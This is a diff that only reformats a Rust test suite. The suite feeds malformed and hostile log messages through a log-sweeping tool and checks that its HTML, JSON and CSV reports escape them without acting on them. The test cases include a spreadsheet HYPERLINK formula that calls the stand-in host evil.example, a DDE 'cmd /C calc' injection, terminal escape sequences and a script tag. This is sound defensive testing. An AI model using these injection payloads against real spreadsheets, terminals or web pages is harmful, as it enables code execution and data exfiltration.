@@ -24,26 +24,54 @@ fn named() -> Vec<(&'static str, String)> {
     let field = |n: u32| format!("\"{n}\":1,");
     vec![
         ("not JSON", format!("{{\"a\": {IP}")),
-        ("10,000 levels", format!("{}\"{IP}\"{}", "[".repeat(10_000), "]".repeat(10_000))),
-        ("10,000 levels of objects", format!("{}\"{IP}\"{}", "{\"a\":".repeat(10_000), "}".repeat(10_000))),
+        (
+            "10,000 levels",
+            format!("{}\"{IP}\"{}", "[".repeat(10_000), "]".repeat(10_000)),
+        ),
+        (
+            "10,000 levels of objects",
+            format!("{}\"{IP}\"{}", "{\"a\":".repeat(10_000), "}".repeat(10_000)),
+        ),
         ("keys twice", format!(r#"{{"a":"{IP}","a":1,"a":"{IP}"}}"#)),
         (
             "a record's keys twice",
-            record("2026-03-02T10:00:00Z", "r").replace("\"eventName\"", "\"eventID\":\"x\",\"eventName\""),
+            record("2026-03-02T10:00:00Z", "r")
+                .replace("\"eventName\"", "\"eventID\":\"x\",\"eventName\""),
         ),
-        ("huge numbers", format!(r#"{{"a":1e999999,"b":{},"c":"{IP}"}}"#, "9".repeat(400))),
-        ("lone surrogates", format!(r#"{{"a":"\ud800","b":"{IP}","c":"\udc00\ud800"}}"#)),
+        (
+            "huge numbers",
+            format!(r#"{{"a":1e999999,"b":{},"c":"{IP}"}}"#, "9".repeat(400)),
+        ),
+        (
+            "lone surrogates",
+            format!(r#"{{"a":"\ud800","b":"{IP}","c":"\udc00\ud800"}}"#),
+        ),
         ("NUL", format!("\0{IP}\0")),
-        ("NUL in JSON", format!(r#"{{"a\u0000b":"\u0000","c":"{IP}"}}"#)),
+        (
+            "NUL in JSON",
+            format!(r#"{{"a\u0000b":"\u0000","c":"{IP}"}}"#),
+        ),
         ("an event of 1 MB", format!("{}{IP}", "x ".repeat(500_000))),
-        ("100,000 fields", format!("{{{}\"z\":\"{IP}\"}}", (0..100_000).map(field).collect::<String>())),
+        (
+            "100,000 fields",
+            format!(
+                "{{{}\"z\":\"{IP}\"}}",
+                (0..100_000).map(field).collect::<String>()
+            ),
+        ),
         ("year 0", record("0000-01-01T00:00:00Z", "zero")),
         ("year 9999", record("9999-12-30T23:59:59Z", "late")),
         ("no year at all", record("-999999-01-01T00:00:00Z", "none")),
-        ("a formula", format!("=HYPERLINK(\"http://evil.example/?{IP}\")")),
+        (
+            "a formula",
+            format!("=HYPERLINK(\"http://evil.example/?{IP}\")"),
+        ),
         ("a command", format!("+cmd|' /C calc'!A0 {IP}")),
         ("tab and formula", format!("\t@SUM(1) {IP}")),
-        ("escape sequences", format!("\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m {IP}")),
+        (
+            "escape sequences",
+            format!("\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m {IP}"),
+        ),
         ("right to left", format!("\u{202e}{IP} \u{2066}x")),
         ("quotes and lines", format!("\"\r\n\",\"{IP}\"\n")),
         ("markup", format!("<script>alert(1)</script> {IP}")),
@@ -61,19 +89,33 @@ async fn nothing_poisonous_is_dropped_and_nothing_of_it_is_obeyed() {
         )
     };
     let planted: String = cases.iter().map(|(_, message)| plant(message)).collect();
-    let run = World::small_with(&planted).sweep(&[IP, "--since", "24h", "--format", "csv,jsonl,json,html"]).await;
+    let run = World::small_with(&planted)
+        .sweep(&[IP, "--since", "24h", "--format", "csv,jsonl,json,html"])
+        .await;
     assert_eq!(run.status(), "complete");
     let page = run.file("report.html");
-    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && page.contains("\\u{202e}"), "{page}");
+    assert!(
+        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && page.contains("\\u{202e}"),
+        "{page}"
+    );
     assert!(!page.contains("<script") && !page.contains(['\u{1b}', '\0', '\u{202e}']));
-    let lines: Vec<serde_json::Value> =
-        run.file("sightings.jsonl").lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let lines: Vec<serde_json::Value> = run
+        .file("sightings.jsonl")
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
     for (name, message) in &cases {
-        let found = lines.iter().filter(|line| line["message"] == message.as_str()).count();
+        let found = lines
+            .iter()
+            .filter(|line| line["message"] == message.as_str())
+            .count();
         assert_eq!(found, 1, "{name}: found, and exact in JSON");
     }
     assert_eq!(lines.len(), cases.len());
-    assert_eq!(serde_json::from_str::<Vec<serde_json::Value>>(&run.file("sightings.json")).unwrap(), lines);
+    assert_eq!(
+        serde_json::from_str::<Vec<serde_json::Value>>(&run.file("sightings.json")).unwrap(),
+        lines
+    );
     let csv = run.file("sightings.csv");
     let mut rows = csv::Reader::from_reader(csv.as_bytes());
     let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
@@ -133,7 +175,13 @@ fn sighting(text: &str) -> Sighting {
 fn report(form: SightingsForm, text: &str) -> Vec<u8> {
     let mut out = Vec::new();
     let names = AccountNames::from([(text.to_owned(), text.to_owned())]);
-    write_sightings(form, [Ok::<_, Infallible>(sighting(text))], &names, &mut out).unwrap();
+    write_sightings(
+        form,
+        [Ok::<_, Infallible>(sighting(text))],
+        &names,
+        &mut out,
+    )
+    .unwrap();
     out
 }
 
